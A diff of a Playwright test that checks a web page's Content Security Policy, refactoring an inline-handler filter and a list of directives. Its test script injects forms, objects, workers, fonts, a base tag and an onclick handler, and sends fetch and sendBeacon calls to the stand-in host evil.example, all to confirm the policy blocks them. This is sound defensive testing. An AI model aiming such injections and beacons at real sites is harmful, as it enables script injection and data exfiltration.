@@ -82,7 +82,7 @@ def harmless(page: Page) -> None:
     assert page.locator("style, base, iframe, object, embed, img, form, link").count() == 1, "the page's own style"
     found = page.evaluate(
         """() => [...document.querySelectorAll("*")].flatMap((element) =>
-            [...element.attributes].filter(({ name }) => name.startsWith("on") || name === "srcdoc").map(({ name }) => name))"""
+            [...element.attributes].map(({ name }) => name).filter((name) => /^on|^srcdoc$/.test(name)))"""
     )
     assert found == []
     for href, rel, target in page.locator("a").evaluate_all(
@@ -143,10 +143,10 @@ def test_the_policy_stops_what_should_ever_get_in(open_page: Open, town_page: Pa
     refused = page.evaluate(
         """async () => {
             const refused = new Set();
-            const all = ["script-src-elem", "script-src-attr", "connect-src", "frame-src", "style-src-attr", "object-src",
-                "base-uri", "form-action", "media-src", "font-src", "worker-src", "style-src-elem"];
-            const done = new Promise((resolve) => document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
-                refused.add(effectiveDirective);
+            const all = ["script-src-elem", "script-src-attr", "connect-src", "frame-src", "object-src", "base-uri"];
+            all.push("form-action", "media-src", "font-src", "worker-src", "style-src-elem", "style-src-attr");
+            const done = new Promise((resolve) => document.addEventListener("securitypolicyviolation", (event) => {
+                refused.add(event.effectiveDirective);
                 if (all.every((one) => refused.has(one))) resolve();
             }));
             const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
@@ -157,13 +157,12 @@ def test_the_policy_stops_what_should_ever_get_in(open_page: Open, town_page: Pa
             add("object", { data: "https://evil.example/" });
             add("video", { src: "https://evil.example/x.mp4" });
             document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
-            const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
-            document.body.append(form);
-            form.submit();
+            add("form", { action: "https://evil.example/", method: "post" });
+            document.querySelector("form").submit();
             document.body.insertAdjacentHTML("beforeend", '<b onclick="window.hacked = 2" style="color: red">b</b>');
             document.body.lastChild.click();
             new FontFace("x", "url(https://evil.example/x.woff)").load().catch(() => {});
-            try { new Worker("https://evil.example/x.js"); } catch { /* a worker of another origin is refused as such */ }
+            try { new Worker("https://evil.example/x.js"); } catch { /* of another origin */ }
             try { new Worker(URL.createObjectURL(new Blob(["0"]))); } catch { refused.add("worker-src"); }
             navigator.sendBeacon("https://evil.example/");
             await fetch("https://evil.example/").catch(() => {});
